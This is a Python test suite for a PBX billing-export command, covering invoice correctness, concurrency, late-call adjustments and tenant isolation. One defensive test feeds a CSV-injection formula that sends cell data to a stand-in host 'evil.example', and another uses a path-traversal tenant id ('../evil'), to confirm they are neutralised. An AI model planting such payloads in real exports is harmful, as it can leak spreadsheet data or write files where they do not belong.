"""`pbxctl billing export` on SQLite and PostgreSQL: BILLING.md's vectors from
the database, byte-identical re-exports, late CDRs as adjustments, one close
under concurrency, neutralised CSV cells and tenant isolation."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import uuid
from collections.abc import AsyncIterator, Iterable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import AsyncEngine

from pbx_controller.billing.export import (
    CALL_COLUMNS,
    LINE_COLUMNS,
    ExportError,
    ExportReport,
    TenantExport,
    export_files,
    export_period,
    files_sha256,
)
from pbx_controller.billing.quote import read_cdrs
from pbx_controller.cli.billing import TerminalProgress
from pbx_controller.cli.main import main
from pbx_controller.core.rating import Period
from pbx_controller.store import models
from pbx_controller.store.db import make_engine, upgrade_to_head

UTC = dt.UTC
DATA = Path(__file__).resolve().parents[1] / "data" / "billing"
OCTOBER = Period(2026, 10)
NOVEMBER = Period(2026, 11)
# After November has ended everywhere: the export refuses unfinished periods.
LATER = dt.datetime(2027, 1, 15, tzinfo=UTC)
EXAMPLE_TENANTS = {"a": "acme", "b": "smallco", "c": "nightline"}

cdr_table = models.Cdr.__table__
period_table = models.BillingPeriod.__table__
invoice_table = models.Invoice.__table__
line_table = models.InvoiceLine.__table__


# -- seeding --------------------------------------------------------------------


def call_uuid(name: str) -> uuid.UUID:
    """The example files' call ids ("b1") as the UUIDs the cdr table needs."""
    return uuid.uuid5(uuid.NAMESPACE_URL, f"pbx-test-call:{name}")


async def add_tenant(engine: AsyncEngine, tenant: str, body: str, **contract: Any) -> None:
    async with engine.begin() as connection:
        await connection.execute(
            sa.insert(models.Tenant.__table__).values(id=tenant, name=tenant.title())
        )
        await add_contract(connection, tenant, body, **contract)


async def add_contract(
    connection: Any,
    tenant: str,
    body: str,
    *,
    version: int = 1,
    valid_from: dt.date = dt.date(2026, 1, 1),
) -> None:
    await connection.execute(
        sa.insert(models.Contract.__table__).values(
            tenant_id=tenant, version=version, body=body, valid_from=valid_from
        )
    )


def cdr_values(
    tenant: str,
    call_id: uuid.UUID,
    direction: str,
    arrived: dt.datetime,
    answered: dt.datetime | None,
    ended: dt.datetime,
    *,
    caller: str = "48600100200",
) -> dict[str, Any]:
    return {
        "call_id": call_id,
        "tenant_id": tenant,
        "direction": direction,
        "did": "48221234567",
        "caller": caller,
        "callee": "48221234567",
        "arrived_at": arrived,
        "answered_at": answered,
        "ended_at": ended,
        "disposition": "answered" if answered else "abandoned",
        "hangup_side": "caller",
        "consent": "n/a",
    }


async def add_cdrs(engine: AsyncEngine, rows: Iterable[dict[str, Any]]) -> None:
    async with engine.begin() as connection:
        await connection.execute(sa.insert(cdr_table), list(rows))


async def add_example(engine: AsyncEngine, name: str) -> str:
    """Tenant, contract and CDRs of billing example `name`; its tenant id."""
    tenant = EXAMPLE_TENANTS[name]
    await add_tenant(engine, tenant, (DATA / name / "contract.toml").read_text())
    await add_cdrs(
        engine,
        (
            cdr_values(
                tenant,
                call_uuid(row.call.call_id),
                row.call.direction,
                row.call.arrived_at,
                row.call.answered_at,
                row.call.ended_at,
            )
            for row in read_cdrs(DATA / name / "cdrs.csv")
        ),
    )
    return tenant


@pytest.fixture
async def engine(database_url: str) -> AsyncIterator[AsyncEngine]:
    await upgrade_to_head(database_url)
    engine = make_engine(database_url)
    try:
        yield engine
    finally:
        await engine.dispose()


async def export(engine: AsyncEngine, period: Period, out: Path, **kwargs: Any) -> ExportReport:
    report = await asyncio.wait_for(
        export_period(engine, period, out, now=LATER, **kwargs), timeout=60
    )
    assert not report.failures, report.failures
    return report


def read_files(out: Path, tenant: str, period: Period) -> dict[str, bytes]:
    return {kind: path.read_bytes() for kind, path in export_files(out, tenant, period).items()}


def listing(directory: Path) -> list[str]:
    return sorted(path.name for path in directory.iterdir())


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


async def scalar(engine: AsyncEngine, query: Any) -> Any:
    async with engine.connect() as connection:
        return (await connection.execute(query)).scalar_one()


# -- BILLING.md's vectors through the database ------------------------------------


async def test_examples_from_the_database_match_expected_json(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    tenants = [await add_example(engine, name) for name in EXAMPLE_TENANTS]
    report = await export(engine, OCTOBER, tmp_path)
    assert sorted(result.tenant for result in report.exported) == sorted(tenants)
    assert {result.action for result in report.exported} == {"closed"}
    for name, tenant in EXAMPLE_TENANTS.items():
        files = read_files(tmp_path, tenant, OCTOBER)
        expected = (DATA / name / "expected.json").read_bytes()
        assert files["invoice.json"] == expected, name
        # lines.csv carries the same lines as the JSON.
        document = json.loads(expected)
        lines = csv_rows(files["lines.csv"])
        assert [
            {key: line[key] for key in ("code", "quantity", "unit", "unit_price", "amount")}
            for line in lines
        ] == document["lines"]
        assert list(lines[0]) == list(LINE_COLUMNS)
    # Stored: closed, with the files' checksum; the invoice rows sum up.
    async with engine.connect() as connection:
        rows = (
            await connection.execute(
                sa.select(period_table).where(period_table.c.period == "2026-10")
            )
        ).all()
        assert {row.tenant_id for row in rows} == set(tenants)
        for row in rows:
            assert row.status == "closed"
            assert row.closed_at == LATER
            paths = export_files(tmp_path, row.tenant_id, OCTOBER)
            assert row.export_sha256 == files_sha256([paths[k] for k in sorted(paths)])
        smallco = (
            await connection.execute(
                sa.select(invoice_table).where(invoice_table.c.tenant_id == "smallco")
            )
        ).one()
        assert (smallco.net, smallco.vat, smallco.gross) == (
            Decimal("170.60"),
            Decimal("39.24"),
            Decimal("209.84"),
        )


async def test_calls_file_has_billed_seconds_and_amounts(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await add_example(engine, "a")
    await export(engine, OCTOBER, tmp_path)
    rows = csv_rows(read_files(tmp_path, "acme", OCTOBER)["calls.csv"])
    assert list(rows[0]) == list(CALL_COLUMNS)
    # a4 was never answered: never billed, not listed, not marked.
    by_id = {row["call_id"]: row for row in rows}
    assert set(by_id) == {str(call_uuid(f"a{i}")) for i in (1, 2, 3, 5)}
    a1 = by_id[str(call_uuid("a1"))]
    # 32 s talk under 30/6 -> 36 s at 0.45/min = 0.27
    assert (a1["billed_seconds"], a1["amount"], a1["billed_as"]) == ("36", "0.27", "period")
    assert a1["answered_at"] == "2026-10-05T10:00:12.000+02:00"
    assert a1["day"] == "2026-10-05"
    # Billing order: a1, a2, a3, a5.
    assert [row["call_id"] for row in rows] == [str(call_uuid(f"a{i}")) for i in (1, 2, 3, 5)]
    marks = await scalar(
        engine,
        sa.select(sa.func.count()).where(cdr_table.c.billing_period == "2026-10"),
    )
    unanswered = await scalar(
        engine,
        sa.select(cdr_table.c.billing_period).where(cdr_table.c.call_id == call_uuid("a4")),
    )
    assert (marks, unanswered) == (4, None)


async def test_ties_on_billing_start_use_the_allowance_in_call_id_order(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    # smallco (example b) has 120 s of allowance left after b2 and b3; three
    # calls answered at the same instant take it in call_id order (rule 9),
    # whatever order they were inserted in: UUID order on PostgreSQL, hex
    # text order on SQLite, str order in the rater.
    await add_example(engine, "b")
    answered = dt.datetime(2026, 10, 25, 9, 0, tzinfo=UTC)
    ids = [uuid.UUID("f" * 32), uuid.UUID("0" * 31 + "1"), uuid.UUID("8" + "0" * 31)]
    await add_cdrs(
        engine,
        (
            cdr_values(
                "smallco", call_id, "inbound", answered, answered, answered.replace(minute=1)
            )
            for call_id in ids
        ),
    )
    await export(engine, OCTOBER, tmp_path)
    rows = csv_rows(read_files(tmp_path, "smallco", OCTOBER)["calls.csv"])
    tied = [row for row in rows if uuid.UUID(row["call_id"]) in ids]
    assert [row["call_id"] for row in tied] == sorted(str(call_id) for call_id in ids)
    assert [(row["included_seconds"], row["charged_seconds"]) for row in tied] == [
        ("60", "0"),
        ("60", "0"),
        ("0", "60"),
    ]


async def test_reexport_is_byte_identical_and_changes_nothing(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    for name in EXAMPLE_TENANTS:
        await add_example(engine, name)
    await export(engine, OCTOBER, tmp_path / "first")
    async with engine.connect() as connection:
        before = (await connection.execute(sa.select(period_table))).all()
        lines_before = (await connection.execute(sa.select(line_table))).all()

    again = await export(engine, OCTOBER, tmp_path / "again")
    assert {result.action for result in again.exported} == {"reexported"}
    for tenant in EXAMPLE_TENANTS.values():
        assert read_files(tmp_path / "again", tenant, OCTOBER) == read_files(
            tmp_path / "first", tenant, OCTOBER
        )
    # Same directory: files are replaced by the same bytes; no temp files left.
    await export(engine, OCTOBER, tmp_path / "first", tenant="smallco")
    assert listing(tmp_path / "first") == sorted(
        path.name
        for tenant in EXAMPLE_TENANTS.values()
        for path in export_files(tmp_path, tenant, OCTOBER).values()
    )
    async with engine.connect() as connection:
        assert (await connection.execute(sa.select(period_table))).all() == before
        assert (await connection.execute(sa.select(line_table))).all() == lines_before
        assert await connection.scalar(sa.select(sa.func.count()).select_from(invoice_table)) == 3


async def test_closed_period_that_no_longer_rates_the_same_is_refused(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await add_example(engine, "a")
    out = tmp_path / "out"
    await export(engine, OCTOBER, out)
    written = read_files(out, "acme", OCTOBER)
    # Someone adds a contract version reaching back into the closed period.
    body = (DATA / "a" / "contract.toml").read_text().replace('"0.45"', '"0.99"')
    async with engine.begin() as connection:
        await add_contract(connection, "acme", body, version=2, valid_from=dt.date(2026, 10, 1))
    report = await export_period(engine, OCTOBER, out, now=LATER)
    assert not report.exported
    [failure] = report.failures
    assert failure.tenant == "acme"
    assert "checksum" in failure.message
    assert "nothing written" in failure.message
    assert read_files(out, "acme", OCTOBER) == written
    assert listing(out) == sorted(written_names("acme", OCTOBER))


async def test_a_period_closed_by_hand_or_a_tenant_id_unfit_for_a_file_fails(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await add_example(engine, "a")
    await add_tenant(engine, "../evil", READY_CONTRACT.format(tenant="../evil"))
    async with engine.begin() as connection:
        await connection.execute(
            sa.insert(period_table).values(
                tenant_id="acme", period="2026-10", status="closed", closed_at=LATER
            )
        )
    out = tmp_path / "out"
    report = await export_period(engine, OCTOBER, out, now=LATER)
    assert not report.exported
    assert [(failure.tenant, failure.message) for failure in report.failures] == [
        ("../evil", "tenant id '../evil' cannot name a file"),
        (
            "acme",
            "period 2026-10 of tenant acme is closed without an invoice or a checksum:"
            " it was not closed by the export; nothing written",
        ),
    ]
    assert listing(out) == []


def written_names(tenant: str, period: Period) -> list[str]:
    return [path.name for path in export_files(Path(), tenant, period).values()]


# -- late CDRs ------------------------------------------------------------------------


async def test_late_cdr_is_an_adjustment_in_the_next_period_and_never_billed_twice(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await add_example(engine, "a")
    await export(engine, OCTOBER, tmp_path)
    october = read_files(tmp_path, "acme", OCTOBER)

    # A call of 2026-10-20 reaches the database after October was closed,
    # plus a November call and a late call that was never answered.
    late_id, november_id, unanswered_id = uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
    answered = dt.datetime(2026, 10, 20, 8, 0, 5, tzinfo=UTC)
    await add_cdrs(
        engine,
        [
            cdr_values(
                "acme",
                late_id,
                "outbound",
                answered - dt.timedelta(seconds=5),
                answered,
                answered + dt.timedelta(seconds=90),
            ),
            cdr_values(
                "acme",
                november_id,
                "inbound",
                dt.datetime(2026, 11, 3, 9, 0, tzinfo=UTC),
                dt.datetime(2026, 11, 3, 9, 0, 10, tzinfo=UTC),
                dt.datetime(2026, 11, 3, 9, 1, 10, tzinfo=UTC),
            ),
            cdr_values(
                "acme",
                unanswered_id,
                "inbound",
                answered,
                None,
                answered + dt.timedelta(seconds=30),
            ),
        ],
    )
    report = await export(engine, NOVEMBER, tmp_path)
    [result] = report.exported
    assert (result.calls, result.late_calls) == (1, 1)
    invoice = json.loads(read_files(tmp_path, "acme", NOVEMBER)["invoice.json"])
    # 90 s outbound under 60/60 -> 2 min at 0.60, on an adjustments line naming the call.
    assert invoice["lines"] == [
        {
            "code": "inbound_minutes",
            "quantity": "1",
            "unit": "min",
            "unit_price": "0.45",
            "amount": "0.45",
        },
        {
            "code": "adjustments",
            "quantity": "2",
            "unit": "min",
            "unit_price": "0.60",
            "amount": "1.20",
            "call_id": str(late_id),
        },
    ]
    assert invoice["net"] == "1.65"
    lines = csv_rows(read_files(tmp_path, "acme", NOVEMBER)["lines.csv"])
    assert lines[-1]["call_id"] == str(late_id)
    calls = csv_rows(read_files(tmp_path, "acme", NOVEMBER)["calls.csv"])
    assert [(row["call_id"], row["billed_as"]) for row in calls] == [
        (str(november_id), "period"),
        (str(late_id), "adjustment"),
    ]
    assert calls[1]["billing_start"] == "2026-10-20T10:00:05.000+02:00"

    # October's files are unchanged; the late call is billed exactly once.
    await export(engine, OCTOBER, tmp_path)
    assert read_files(tmp_path, "acme", OCTOBER) == october
    await export(engine, NOVEMBER, tmp_path / "again")
    assert read_files(tmp_path / "again", "acme", NOVEMBER) == read_files(
        tmp_path, "acme", NOVEMBER
    )
    await export(engine, Period(2026, 12), tmp_path)
    december = json.loads(read_files(tmp_path, "acme", Period(2026, 12))["invoice.json"])
    assert december["lines"] == []
    async with engine.connect() as connection:
        marks = dict(
            (
                await connection.execute(
                    sa.select(cdr_table.c.call_id, cdr_table.c.billing_period).where(
                        cdr_table.c.call_id.in_([late_id, november_id, unanswered_id])
                    )
                )
            ).all()
        )
    assert marks == {late_id: "2026-11", november_id: "2026-11", unanswered_id: None}


async def test_calls_of_a_period_never_exported_are_not_late(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    # September was never closed: its calls wait for September's own export.
    await add_example(engine, "a")
    september = dt.datetime(2026, 9, 10, 8, 0, tzinfo=UTC)
    call = uuid.uuid4()
    await add_cdrs(
        engine,
        [
            cdr_values(
                "acme", call, "inbound", september, september, september + dt.timedelta(seconds=60)
            )
        ],
    )
    await export(engine, OCTOBER, tmp_path)
    document = json.loads(read_files(tmp_path, "acme", OCTOBER)["invoice.json"])
    assert "adjustments" not in {line["code"] for line in document["lines"]}
    await export(engine, Period(2026, 9), tmp_path)
    rows = csv_rows(read_files(tmp_path, "acme", Period(2026, 9))["calls.csv"])
    assert [(row["call_id"], row["billed_as"]) for row in rows] == [(str(call), "period")]


# -- concurrency -----------------------------------------------------------------------


async def waiting_on_locks(engine: AsyncEngine) -> int:
    async with engine.connect() as connection:
        return int(
            await connection.scalar(
                sa.text(
                    "SELECT count(*) FROM pg_stat_activity"
                    " WHERE datname = current_database() AND wait_event_type = 'Lock'"
                )
            )
        )


@pytest.mark.postgres
async def test_two_concurrent_exports_close_the_period_once(
    pg_database_url: str, tmp_path: Path
) -> None:
    await upgrade_to_head(pg_database_url)
    engines = [make_engine(pg_database_url) for _ in range(3)]
    holder, first, second = engines
    try:
        for name in EXAMPLE_TENANTS:
            await add_example(holder, name)
        async with holder.connect() as connection:
            await connection.execute(
                sa.insert(period_table).values(tenant_id="smallco", period="2026-10")
            )
            await connection.commit()
            # Hold the period row so both exports queue on the same lock,
            # then let them race for it.
            await connection.execute(
                sa.select(period_table.c.status)
                .where(period_table.c.tenant_id == "smallco")
                .with_for_update()
            )
            runs = [
                asyncio.create_task(
                    export_period(engine, OCTOBER, tmp_path / name, tenant="smallco", now=LATER)
                )
                for engine, name in ((first, "first"), (second, "second"))
            ]
            async with asyncio.timeout(30):
                while await waiting_on_locks(holder) < 2:
                    await asyncio.sleep(0.02)
            await connection.rollback()
        reports = await asyncio.wait_for(asyncio.gather(*runs), timeout=60)
        results: list[TenantExport] = [report.exported[0] for report in reports]
        assert sorted(result.action for result in results) == ["closed", "reexported"]
        assert read_files(tmp_path / "first", "smallco", OCTOBER) == read_files(
            tmp_path / "second", "smallco", OCTOBER
        )
        assert (
            read_files(tmp_path / "first", "smallco", OCTOBER)["invoice.json"]
            == (DATA / "b" / "expected.json").read_bytes()
        )
        async with holder.connect() as connection:
            assert (
                await connection.scalar(sa.select(sa.func.count()).select_from(invoice_table)) == 1
            )
            assert await connection.scalar(sa.select(sa.func.count()).select_from(line_table)) == 5
    finally:
        for engine in engines:
            await engine.dispose()


async def test_concurrent_exports_of_all_tenants_bill_each_call_once(
    engine: AsyncEngine, database_url: str, tmp_path: Path
) -> None:
    # Without a forced overlap: several whole-period runs at once, each on
    # its own engine (own connections), on both dialects.
    for name in EXAMPLE_TENANTS:
        await add_example(engine, name)
    others = [make_engine(database_url) for _ in range(3)]
    try:
        reports = await asyncio.wait_for(
            asyncio.gather(
                *(
                    export_period(run, OCTOBER, tmp_path / str(i), now=LATER)
                    for i, run in enumerate(others)
                )
            ),
            timeout=120,
        )
    finally:
        for run in others:
            await run.dispose()
    assert all(report.ok for report in reports), [report.failures for report in reports]
    closes = [
        (result.tenant, result.action)
        for report in reports
        for result in report.exported
        if result.action == "closed"
    ]
    assert sorted(closes) == sorted((tenant, "closed") for tenant in EXAMPLE_TENANTS.values())
    for tenant in EXAMPLE_TENANTS.values():
        files = [read_files(tmp_path / str(i), tenant, OCTOBER) for i in range(3)]
        assert files[0] == files[1] == files[2]
    assert await scalar(engine, sa.select(sa.func.count()).select_from(invoice_table)) == 3


# -- CSV injection and isolation ---------------------------------------------------------


async def test_csv_cells_that_could_be_formulas_are_neutralised(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await add_example(engine, "a")
    start = dt.datetime(2026, 10, 8, 8, 0, tzinfo=UTC)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    callers = {
        uuid.UUID(int=1): evil,
        uuid.UUID(int=2): "+48600100200",
        uuid.UUID(int=3): "-1+1",
        uuid.UUID(int=4): "@SUM(A1:A2)",
        uuid.UUID(int=5): "\t=1+1",
        uuid.UUID(int=6): "\r=1+1",
        uuid.UUID(int=7): "48600100200",
    }
    await add_cdrs(
        engine,
        (
            cdr_values(
                "acme",
                call_id,
                "inbound",
                start,
                start + dt.timedelta(seconds=number),
                start + dt.timedelta(seconds=100),
                caller=caller,
            )
            for number, (call_id, caller) in enumerate(callers.items())
        ),
    )
    await export(engine, OCTOBER, tmp_path)
    rows = {
        uuid.UUID(row["call_id"]): row
        for row in csv_rows(read_files(tmp_path, "acme", OCTOBER)["calls.csv"])
    }
    for call_id, caller in callers.items():
        cell = rows[call_id]["caller"]
        if caller[0] in "=+-@\t\r":
            assert cell == "'" + caller
        else:
            assert cell == caller
    # Numeric and time cells stay plain values a spreadsheet can sum.
    row = rows[uuid.UUID(int=1)]
    assert row["amount"] == "0.77"  # 100 s under 30/6 -> 102 s at 0.45 = 0.765
    assert row["billed_seconds"] == "102"
    assert Decimal(row["per_minute"]) == Decimal("0.45")


async def test_no_tenant_file_holds_another_tenants_calls(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    for name in EXAMPLE_TENANTS:
        await add_example(engine, name)
    # Same instants, same caller, in two tenants: each file lists only its own.
    start = dt.datetime(2026, 10, 12, 8, 0, tzinfo=UTC)
    shared_caller = "48111222333"
    own = {tenant: uuid.uuid4() for tenant in ("acme", "nightline")}
    await add_cdrs(
        engine,
        (
            cdr_values(
                tenant,
                call_id,
                "inbound",
                start,
                start,
                start + dt.timedelta(minutes=2),
                caller=shared_caller,
            )
            for tenant, call_id in own.items()
        ),
    )
    await export(engine, OCTOBER, tmp_path)
    async with engine.connect() as connection:
        tenant_of = {
            str(call_id): tenant
            for call_id, tenant in await connection.execute(
                sa.select(cdr_table.c.call_id, cdr_table.c.tenant_id)
            )
        }
    for tenant in EXAMPLE_TENANTS.values():
        files = read_files(tmp_path, tenant, OCTOBER)
        listed = [row["call_id"] for row in csv_rows(files["calls.csv"])]
        assert listed, tenant
        assert {tenant_of[call_id] for call_id in listed} == {tenant}
        foreign = [call_id for call_id, owner in tenant_of.items() if owner != tenant]
        for data in files.values():
            assert not any(call_id.encode() in data for call_id in foreign)
    # --tenant exports one tenant only.
    await export(engine, OCTOBER, tmp_path / "one", tenant="nightline")
    assert listing(tmp_path / "one") == sorted(written_names("nightline", OCTOBER))


# -- readiness from the agent state log ----------------------------------------------------

READY_CONTRACT = """
tenant = "{tenant}"
currency = "PLN"
timezone = "Europe/Warsaw"
start = 2026-01-01
vat_percent = "23"

[rates.inbound]
per_minute = "0.50"
increment = "1/1"
basis = "talk"

[readiness]
per_hour = "14.50"
"""


async def test_readiness_from_the_agent_state_log(engine: AsyncEngine, tmp_path: Path) -> None:
    for tenant in ("alpha", "beta"):
        await add_tenant(engine, tenant, READY_CONTRACT.format(tenant=tenant))
    # October 2026 in Warsaw: 2026-09-30T22:00Z .. 2026-10-31T23:00Z.
    t = dt.datetime
    log = [
        # anna: ready for alpha since September; crosses the period start.
        ("anna", t(2026, 9, 30, 20, 0, tzinfo=UTC), "ready", ["alpha"]),
        ("anna", t(2026, 10, 1, 0, 0, tzinfo=UTC), "on_call", ["alpha"]),  # same span
        ("anna", t(2026, 10, 1, 1, 0, tzinfo=UTC), "paused", ["alpha"]),
        # 2 h for alpha alone, then 3 h shared with beta (1/2 each), wrap-up counts.
        ("anna", t(2026, 10, 5, 8, 0, tzinfo=UTC), "ready", ["alpha"]),
        ("anna", t(2026, 10, 5, 10, 0, tzinfo=UTC), "ready", ["alpha", "beta"]),
        ("anna", t(2026, 10, 5, 12, 0, tzinfo=UTC), "wrap_up", ["alpha", "beta"]),
        ("anna", t(2026, 10, 5, 13, 0, tzinfo=UTC), "logged_out", []),
        # bob: ready for beta from the last hour of October, never logs out.
        ("bob", t(2026, 10, 31, 22, 0, tzinfo=UTC), "reserved", ["beta"]),
        # carol: a member of nobody's queues; and paused time that never counts.
        ("carol", t(2026, 10, 6, 8, 0, tzinfo=UTC), "ready", []),
        ("carol", t(2026, 10, 6, 9, 0, tzinfo=UTC), "paused", ["beta"]),
    ]
    async with engine.begin() as connection:
        for agent in ("anna", "bob", "carol"):
            await connection.execute(
                sa.insert(models.Agent.__table__).values(
                    id=agent, name=agent.title(), endpoint=f"PJSIP/{agent}"
                )
            )
        await connection.execute(
            sa.insert(models.AgentStateLog.__table__),
            [
                {"agent_id": agent, "at": at, "state": state, "tenant_ids": tenants}
                for agent, at, state, tenants in log
            ],
        )
    await export(engine, OCTOBER, tmp_path)
    hours = {}
    for tenant in ("alpha", "beta"):
        document = json.loads(read_files(tmp_path, tenant, OCTOBER)["invoice.json"])
        [line] = document["lines"]
        assert line["code"] == "readiness"
        hours[tenant] = (line["quantity"], line["amount"])
    # alpha: 22:00Z-01:00Z on 30 Sep/1 Oct clipped to 3 h, + 2 h + 3 h / 2 = 6.5 h
    # beta: 3 h / 2 + bob's last hour (23:00Z is local midnight) = 1.5 + 1 = 2.5 h
    assert hours == {"alpha": ("6.5", "94.25"), "beta": ("2.5", "36.25")}


async def test_a_call_the_contract_cannot_price_fails_the_tenant_and_changes_nothing(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await add_example(engine, "a")
    await add_tenant(engine, "alpha", READY_CONTRACT.format(tenant="alpha"))  # inbound only
    answered = dt.datetime(2026, 10, 9, 9, 0, tzinfo=UTC)
    await add_cdrs(
        engine,
        [
            cdr_values("alpha", uuid.uuid4(), "inbound", answered, answered, answered),
            cdr_values(
                "alpha", uuid.uuid4(), "outbound", answered, answered, answered.replace(minute=5)
            ),
        ],
    )
    out = tmp_path / "out"
    report = await export_period(engine, OCTOBER, out, now=LATER)
    [failure] = report.failures
    assert failure.tenant == "alpha"
    assert "has no rates.outbound" in failure.message
    assert [result.tenant for result in report.exported] == ["acme"]
    # Rolled back: no period row, no marks, no files (not even temporary ones).
    assert listing(out) == sorted(written_names("acme", OCTOBER))
    async with engine.connect() as connection:
        periods = await connection.scalar(
            sa.select(sa.func.count()).where(period_table.c.tenant_id == "alpha")
        )
        marked = await connection.scalar(
            sa.select(sa.func.count()).where(
                cdr_table.c.tenant_id == "alpha", cdr_table.c.billing_period.is_not(None)
            )
        )
    assert (periods, marked) == (0, 0)


# -- the command line ---------------------------------------------------------------------------


async def run_cli(*argv: str) -> int:
    # main() runs its own event loop: give it a thread.
    return await asyncio.to_thread(main, ["billing", "export", *argv])


async def test_cli_exports_quietly_when_not_on_a_terminal(
    engine: AsyncEngine,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    await add_example(engine, "b")
    monkeypatch.setenv("PBX_DATABASE__URL", database_url)
    monkeypatch.delenv("PBX_CONFIG", raising=False)
    assert await run_cli("--period", "2026-10", "--out", str(tmp_path)) == 0
    assert capsys.readouterr() == ("", "")
    assert (
        read_files(tmp_path, "smallco", OCTOBER)["invoice.json"]
        == (DATA / "b" / "expected.json").read_bytes()
    )


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("--period", "2026-13"), "--period: period month must be within 1-12"),
        (("--period", "October"), "--period: expected a period like 2026-10"),
        (("--period", "2026-10", "--tenant", "nosuch"), "unknown tenant 'nosuch'"),
        (("--period", "2026-10", "--tenant", "nocontract"), "tenant nocontract has no contract"),
        (("--period", "2026-08", "--tenant", "smallco"), "tenant smallco has no contract in force"),
        (("--period", "2099-12", "--tenant", "smallco"), "has not ended yet"),
    ],
)
async def test_cli_errors_exit_2_with_a_message(
    engine: AsyncEngine,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    argv: tuple[str, ...],
    message: str,
) -> None:
    await add_example(engine, "b")  # smallco's contract is valid from 2026-01-01
    async with engine.begin() as connection:
        await connection.execute(
            sa.insert(models.Tenant.__table__).values(id="nocontract", name="No contract")
        )
        await connection.execute(
            sa.update(models.Contract.__table__).values(valid_from=dt.date(2026, 10, 1))
        )
    monkeypatch.setenv("PBX_DATABASE__URL", database_url)
    monkeypatch.delenv("PBX_CONFIG", raising=False)
    assert await run_cli(*argv, "--out", str(tmp_path)) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith("pbxctl: error: ")
    assert message in err
    assert not [name for name in listing(tmp_path) if name.endswith(".json")]


async def test_one_tenants_bad_contract_fails_it_alone(
    engine: AsyncEngine,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    await add_example(engine, "a")
    await add_tenant(engine, "broken", 'tenant = "broken"\ncurrency = "PLN"\nbogus = 1\n')
    monkeypatch.setenv("PBX_DATABASE__URL", database_url)
    monkeypatch.delenv("PBX_CONFIG", raising=False)
    assert await run_cli("--period", "2026-10", "--out", str(tmp_path)) == 2
    err = capsys.readouterr().err
    assert "failed for 1 tenant(s) (1 exported)" in err
    assert "broken: contract version 1 of tenant broken:" in err
    assert (
        read_files(tmp_path, "acme", OCTOBER)["invoice.json"]
        == (DATA / "a" / "expected.json").read_bytes()
    )
    assert not [name for name in listing(tmp_path) if name.startswith("broken-")]


@pytest.mark.parametrize(
    "url",
    [
        "postgresql+asyncpg://billing:s3cr3t-pw@127.0.0.1:9/pbx",  # nothing listens on 9
        "postgresql+asyncpg://nobody:s3cr3t-pw@127.0.0.1:5432/pbx_no_such_db",
    ],
)
def test_cli_database_unreachable_hides_the_password(
    url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("PBX_DATABASE__URL", url)
    monkeypatch.delenv("PBX_CONFIG", raising=False)
    assert main(["billing", "export", "--period", "2026-10", "--out", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("pbxctl: error: database postgresql+asyncpg://")
    assert "s3cr3t-pw" not in err
    assert "***" in err


def test_cli_unmigrated_database_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PBX_DATABASE__URL", f"sqlite+aiosqlite:///{tmp_path / 'empty.db'}")
    monkeypatch.delenv("PBX_CONFIG", raising=False)
    assert main(["billing", "export", "--period", "2026-10", "--out", str(tmp_path)]) == 2
    assert "pbxctl db upgrade" in capsys.readouterr().err


async def test_unwritable_out_dir_is_an_error(engine: AsyncEngine, tmp_path: Path) -> None:
    await add_example(engine, "a")
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(ExportError, match="--out"):
        await export_period(engine, OCTOBER, blocker / "out", now=LATER)


async def test_terminal_progress_draws_and_summarises(engine: AsyncEngine, tmp_path: Path) -> None:
    await add_example(engine, "b")
    stream = io.StringIO()
    await export(engine, OCTOBER, tmp_path, progress=TerminalProgress(stream))
    text = stream.getvalue()
    assert "0/1 tenants" in text
    assert "smallco 2026-10: closed, 3 calls, gross 209.84 PLN\n" in text
    assert text.endswith("\r\x1b[K[" + "#" * 30 + "] 1/1 tenants, 3 calls rated\n")
